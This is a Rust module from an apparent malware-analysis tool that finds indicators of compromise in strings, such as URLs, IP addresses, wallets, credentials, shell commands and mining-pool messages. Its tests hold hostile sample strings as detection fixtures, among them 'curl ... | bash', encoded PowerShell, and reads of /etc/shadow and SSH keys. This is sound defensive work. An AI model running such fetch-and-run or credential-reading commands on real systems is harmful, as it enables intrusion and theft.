//! Indicators of compromise: what in a string names a place, an account, a secret or a command.
//!
//! An indicator is a fact, not a verdict: a toolchain's link to its documentation is a `url` like any other.
//! Patterns ask for whole words and valid checksums, so that version numbers are no addresses and identifiers
//! no wallets.

mod pattern;

use std::net::{Ipv4Addr, Ipv6Addr};

use hashbrown::HashSet;
use schemars::JsonSchema;
use serde::Serialize;

use super::{
    encoding::TextEncoding,
    kinds::{IocKind, Seen},
    limits::{MAX_DROPPED, MAX_IOCS, MAX_VALUE},
    wallet,
};
use pattern::{PATTERNS, hinted};

/// Where a string stands, and how it was decoded.
#[derive(Debug, Clone, Copy)]
pub(super) struct Found {
    pub(super) offset: u64,
    pub(super) address: Option<u64>,
    pub(super) encoding: TextEncoding,
}

/// `job_id` and `nonce` belong together if they are so many bytes apart at most.
const NEAR: u64 = 1024;

/// An indicator of compromise.
#[derive(Debug, Clone, Serialize, JsonSchema)]
#[non_exhaustive]
pub struct Ioc {
    /// What it names.
    pub kind: IocKind,
    /// The indicator itself.
    pub value: String,
    /// Byte offset of its string in the file.
    pub offset: u64,
    /// Address in memory.
    pub address: Option<u64>,
    /// How its string was decoded.
    pub encoding: TextEncoding,
    /// Where it was seen. `offset` is 0 for what the sample made while it ran.
    pub seen: Seen,
}

/// Well-known resolvers whose addresses look like versions.
const RESOLVERS: &[[u8; 4]] = &[[1, 1, 1, 1], [1, 0, 0, 1], [8, 8, 8, 8], [8, 8, 4, 4], [9, 9, 9, 9]];

/// Collects indicators.
#[derive(Default)]
pub(super) struct Iocs {
    kept: Vec<Ioc>,
    seen: HashSet<(IocKind, String)>,
    /// Where what comes next is seen.
    pub(super) place: Seen,
    cut: u64,
    /// Where the last `job_id` and the last `nonce` stood.
    job: Option<u64>,
    nonce: Option<u64>,
}

impl Iocs {
    /// Collects the indicators in a string.
    pub(super) fn search(&mut self, text: &str, found: Found) {
        let hinted = hinted(text);
        for (pattern, _) in PATTERNS.iter().zip(hinted).filter(|(_, is_hinted)| *is_hinted) {
            for hit in pattern.finder().map(|finder| finder.find(text)).into_iter().flatten() {
                let value = trim(pattern.kind, text.get(hit.clone()).unwrap_or_default());
                if pattern.kind != IocKind::Url || has_host(value) && !is_tail(text, hit.start) {
                    self.push(pattern.kind, value, hit.start, found);
                }
            }
        }
        for (start, address) in runs(text, |letter| letter.is_ascii_hexdigit() || letter == ':') {
            if is_ipv6(text, start, start + address.len()) {
                self.push(IocKind::Ipv6, address, start, found);
            }
        }
        for (start, address) in runs(text, |letter| letter.is_ascii_digit() || letter == '.') {
            if is_ipv4(text, start, start + address.len()) {
                self.push(IocKind::Ipv4, address, start, found);
            }
        }
        for (position, word) in wallet::find(text) {
            self.push(IocKind::Wallet, word, position, found);
        }
        self.job(text, found);
    }

    /// A file of another format inside of this one.
    pub(super) fn embedded(&mut self, kind: &str, found: Found) {
        self.push(IocKind::EmbeddedFile, kind, 0, found);
    }

    /// All by place, and how many were cut.
    pub(super) fn finish(mut self) -> (Vec<Ioc>, u64) {
        self.kept.sort_by(|a, b| {
            (a.offset, a.kind, &a.value, a.encoding).cmp(&(b.offset, b.kind, &b.value, b.encoding))
        });
        (self.kept, self.cut)
    }

    /// Each indicator once, at its first place.
    fn push(&mut self, kind: IocKind, value: &str, position: usize, found: Found) {
        if self.kept.len() >= MAX_IOCS {
            self.cut += 1;
            return;
        }
        if !self.seen.insert((kind, value.to_owned())) {
            return;
        }
        // Of a decoded string, the place is that of its beginning: its characters are not the file's bytes.
        let position = if found.encoding == TextEncoding::Plain { position as u64 } else { 0 };
        self.kept.push(Ioc {
            kind,
            value: value.to_owned(),
            offset: found.offset + position,
            address: found.address.map(|address| address.saturating_add(position)),
            encoding: found.encoding,
            seen: self.place,
        });
    }

    /// A job of a mining pool names its number and has a nonce.
    fn job(&mut self, text: &str, found: Found) {
        let place = |word: &str| text.find(word).map(|position| found.offset + position as u64);
        self.job = place("job_id").or(self.job);
        self.nonce = place("nonce").or(self.nonce);
        if let (Some(job), Some(nonce)) = (self.job, self.nonce)
            && job.abs_diff(nonce) <= NEAR
        {
            self.push(IocKind::PoolProtocol, "job_id, nonce", 0, found);
        }
    }
}

/// Indicators in texts that a sample gave to the host while it ran, without those in `known`.
pub(crate) fn of_run(texts: impl Iterator<Item = impl AsRef<str>>, known: &[Ioc]) -> Vec<Ioc> {
    let mut iocs = Iocs { place: Seen::Run, ..Iocs::default() };
    for text in texts {
        // One whose halves come from different calls is none.
        (iocs.job, iocs.nonce) = (None, None);
        iocs.search(text.as_ref(), Found { offset: 0, address: None, encoding: TextEncoding::Plain });
    }
    let known: HashSet<(IocKind, &str)> = known.iter().map(|ioc| (ioc.kind, &*ioc.value)).collect();
    let is_new = |ioc: &Ioc| !known.contains(&(ioc.kind, &*ioc.value));
    let iocs = iocs.finish().0.into_iter().filter(is_new);
    iocs.map(|ioc| Ioc { offset: 0, ..ioc }).collect()
}

/// Files that a sample left, each with its path, and with the hash of its bytes if it has any. A file on a
/// machine is known by either.
pub(crate) fn of_files<'f>(files: impl Iterator<Item = (Option<&'f str>, Option<&'f str>)>) -> Vec<Ioc> {
    let mut iocs = Iocs { place: Seen::Run, ..Iocs::default() };
    let found = Found { offset: 0, address: None, encoding: TextEncoding::Plain };
    for (path, sha256) in files.take(MAX_DROPPED) {
        path.into_iter().for_each(|path| iocs.push(IocKind::Path, path, 0, found));
        sha256.into_iter().for_each(|hash| iocs.push(IocKind::Sha256, hash, 0, found));
    }
    iocs.kept
}

/// Takes off what ends a sentence and not a link.
fn trim(kind: IocKind, value: &str) -> &str {
    match kind {
        _ if value.len() > MAX_VALUE => value.get(..MAX_VALUE).unwrap_or(value),
        IocKind::Url | IocKind::Webhook => {
            value.trim_end_matches(['.', ',', ';', ':', '!', '?', '\'', ')', ']', '&', '='])
        }
        _ => value.trim_end(),
    }
}

/// Whether what begins here is the rest of a longer scheme, as `tcp` is of `stratum+tcp`.
fn is_tail(text: &str, start: usize) -> bool {
    text.get(..start).is_some_and(|before| before.ends_with('+'))
}

/// Whether a link names a host that can exist: with a domain, a port, or an address. Dictionaries are full of
/// words after `http://`.
fn has_host(url: &str) -> bool {
    let Some((_, rest)) = url.split_once("://") else { return false };
    let host = rest.split(['/', '?', '#']).next().unwrap_or_default();
    let host = host.rsplit('@').next().unwrap_or_default();
    let (name, port) = host.split_once(':').unwrap_or((host, ""));
    let last = name.rsplit_once('.').map_or("", |(_, last)| last);
    let is_domain = (2..=24).contains(&last.len()) && last.bytes().all(|byte| byte.is_ascii_alphabetic());
    let has_port = !port.is_empty() && port.bytes().all(|byte| byte.is_ascii_digit());
    is_domain || has_port || host.starts_with('[') || name == "localhost" || name.parse::<Ipv4Addr>().is_ok()
}

/// Runs of letters that an address may have, none of them a point at an end.
fn runs(text: &str, is_letter: impl Fn(char) -> bool) -> impl Iterator<Item = (usize, &str)> {
    let mut begin = 0;
    let runs = text.split(move |letter: char| !is_letter(letter)).map(move |run| {
        let start = begin;
        begin += run.len() + 1;
        (start, run)
    });
    let trimmed = runs.map(|(start, run)| {
        let tail = run.trim_start_matches('.');
        (start + run.len() - tail.len(), tail.trim_end_matches('.'))
    });
    trimmed.filter(|(_, run)| (7..=39).contains(&run.len()))
}

fn is_ipv4(text: &str, start: usize, end: usize) -> bool {
    let before = text.as_bytes().get(..start).unwrap_or_default();
    let after = text.as_bytes().get(end..).unwrap_or_default();
    let is_word = |byte: Option<&u8>| {
        byte.is_some_and(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-'))
    };
    let goes_on = after.first() == Some(&b'.') && after.get(1).is_some_and(u8::is_ascii_digit);
    if is_word(before.last()) || before.last() == Some(&b'.') || is_word(after.first()) || goes_on {
        return false;
    }
    let Some(Ok(address)) = text.get(start..end).map(str::parse::<Ipv4Addr>) else { return false };
    let octets = address.octets();
    let has_context = before.ends_with(b"//")
        || before.ends_with(b"@")
        || after.first() == Some(&b':')
        || after.first() == Some(&b'/');
    let is_version = octets[0] < 10
        && octets.iter().all(|octet| *octet < 100)
        && !RESOLVERS.contains(&octets)
        && !has_context;
    let is_special = octets[0] == 0 || address.is_loopback() || address.is_broadcast() || octets[0] == 255;
    !is_version && !is_special && !ends_in_version(before)
}

fn ends_in_version(before: &[u8]) -> bool {
    let tail = before.get(before.len().saturating_sub(12)..).unwrap_or_default().to_ascii_lowercase();
    let tail = String::from_utf8_lossy(&tail).into_owned();
    ["version", "ver", "release", "build", "v", "oid"]
        .iter()
        .any(|word| tail.trim_end_matches([' ', '=', ':', '/', '"']).ends_with(word))
}

fn is_ipv6(text: &str, start: usize, end: usize) -> bool {
    let around =
        [start.checked_sub(1).and_then(|before| text.as_bytes().get(before)), text.as_bytes().get(end)];
    let is_word = |byte: &&u8| byte.is_ascii_alphanumeric() || matches!(byte, b':' | b'.' | b'_' | b'-');
    let address = text.get(start..end).and_then(|text| text.parse::<Ipv6Addr>().ok());
    !around.iter().flatten().any(is_word)
        && address.is_some_and(|address| {
            address.segments()[0] & 0xe000 == 0x2000 || address.segments()[0] & 0xfe00 == 0xfc00
        })
}

#[cfg(test)]
mod tests {
    use super::{pattern::Look, *};

    fn iocs(text: &str) -> Vec<(IocKind, String)> {
        let mut iocs = Iocs::default();
        iocs.search(text.as_ref(), Found { offset: 0, address: None, encoding: TextEncoding::Plain });
        iocs.finish().0.into_iter().map(|ioc| (ioc.kind, ioc.value)).collect()
    }

    #[test]
    fn all_patterns_compile() {
        for pattern in &PATTERNS {
            assert!(pattern.finder().is_some(), "{} {:?}", pattern.kind, pattern.hints);
            assert!(
                !pattern.hints.is_empty() && pattern.hints.iter().all(|hint| **hint == hint.to_lowercase())
            );
        }
    }

    #[test]
    fn indicators_have_their_kind() {
        for (text, kind, value) in [
            ("see https://evil.example/a?b=c.", IocKind::Url, "https://evil.example/a?b=c"),
            ("wss://pool.evil.example:8892/proxy", IocKind::Url, "wss://pool.evil.example:8892/proxy"),
            ("at expyuzz4wqqyqhjn.onion now", IocKind::Onion, "expyuzz4wqqyqhjn.onion"),
            ("xmr.pool.example.com:3333", IocKind::Domain, "xmr.pool.example.com:3333"),
            ("write to a.b+c@mail.example.org!", IocKind::Email, "a.b+c@mail.example.org"),
            ("open /etc/shadow", IocKind::Path, "/etc/shadow"),
            ("/home/u/.ssh/id_ed25519", IocKind::Path, ".ssh/id_ed25519"),
            ("key AKIAIOSFODNN7EXAMPLE", IocKind::Credential, "AKIAIOSFODNN7EXAMPLE"),
            ("-----BEGIN RSA PRIVATE KEY-----", IocKind::Credential, "-----BEGIN RSA PRIVATE KEY-----"),
            ("stratum+tcp://pool.example:4444", IocKind::PoolProtocol, "stratum+tcp://pool.example:4444"),
            (r#"{"id":1,"method": "login","params":{}}"#, IocKind::PoolProtocol, r#""method": "login""#),
            (r#"{"job_id":"%s","nonce":"%s"}"#, IocKind::PoolProtocol, "job_id, nonce"),
            ("cmd.exe /c whoami", IocKind::Command, "cmd.exe /c whoami"),
            ("powershell -nop -enc SQBFAFgA", IocKind::Command, "powershell -nop -enc SQBFAFgA"),
            ("/bin/sh -c id", IocKind::Command, "/bin/sh -c id"),
            ("curl http://a.example/x | bash", IocKind::Command, "curl http://a.example/x | bash"),
            ("connect 203.0.113.7:4444", IocKind::Ipv4, "203.0.113.7"),
            ("dns 8.8.8.8", IocKind::Ipv4, "8.8.8.8"),
            ("http://5.6.7.8/x", IocKind::Ipv4, "5.6.7.8"),
            ("[2001:db8::8a2e:370:7334]", IocKind::Ipv6, "2001:db8::8a2e:370:7334"),
            ("https://discord.com/api/webhooks/1/abc", IocKind::Webhook, "discord.com/api/webhooks/1/abc"),
        ] {
            assert!(iocs(text).contains(&(kind, value.to_owned())), "{text}: {:?}", iocs(text));
        }
    }

    #[test]
    fn toolchain_strings_are_no_indicators() {
        for text in [
            "version 1.2.3.4",
            "1.2.3.4",
            "0.0.0.0 127.0.0.1 255.255.255.255",
            "2.5.29.15.1 300.1.2.3 10.0.0.1.5 v10.2.3.4",
            "called `Option::unwrap()` on a `None` value/rustc/abc/library/core/src/str/pattern.rs",
            "std::panicking::begin_panic_handler::{{closure}}",
            "12:34:56 00:11:22:33:44:55",
            "Error: nonce must be 24 bytes",
            "http://www http://whether https://mathematicsmargin-top:eventually",
            "base64 cmd powershell bash",
            "deadbeefdeadbeefdeadbeefdeadbeef",
        ] {
            assert_eq!(iocs(text), [], "{text}");
        }
    }

    /// An automaton of bounded size takes one step for each byte, whatever the text.
    #[test]
    fn every_expression_is_searched_in_one_step_for_each_byte() {
        use regex_automata::{dfa::dense, util::syntax};
        let mut expressions: Vec<&str> = Vec::new();
        for pattern in &PATTERNS {
            match pattern.look {
                Look::Regex(expression) => expressions.push(expression),
                Look::Pair { head, tail, .. } => expressions.extend([head, tail]),
                Look::Email | Look::Domain => {}
            }
        }
        for expression in expressions {
            let limit = Some(1 << 20);
            let automaton = dense::Builder::new()
                .syntax(syntax::Config::new().unicode(false).utf8(false))
                .configure(dense::Config::new().dfa_size_limit(limit).determinize_size_limit(limit))
                .build(expression);
            assert!(automaton.is_ok(), "{expression}");
        }
    }

    #[test]
    fn beginnings_without_ends_are_no_indicators() {
        for part in
            ["curl a", "wget \t", "powershell ", "a.a-", "a@a.", "a.a:80", "x@", "|sh ", "eyJ", "cmd /"]
        {
            assert_eq!(iocs(&part.repeat(10_000)), [], "{part:?}");
        }
    }

    #[test]
    fn an_indicator_is_listed_once_at_its_place() {
        let mut iocs = Iocs::default();
        for offset in [100, 200] {
            iocs.search(
                "go http://a.example/b",
                Found { offset, address: Some(offset + 1000), encoding: TextEncoding::Plain },
            );
        }
        let (iocs, cut) = iocs.finish();
        assert_eq!((iocs.len(), cut), (1, 0));
        assert_eq!((iocs[0].offset, iocs[0].address), (103, Some(1103)));
    }
}
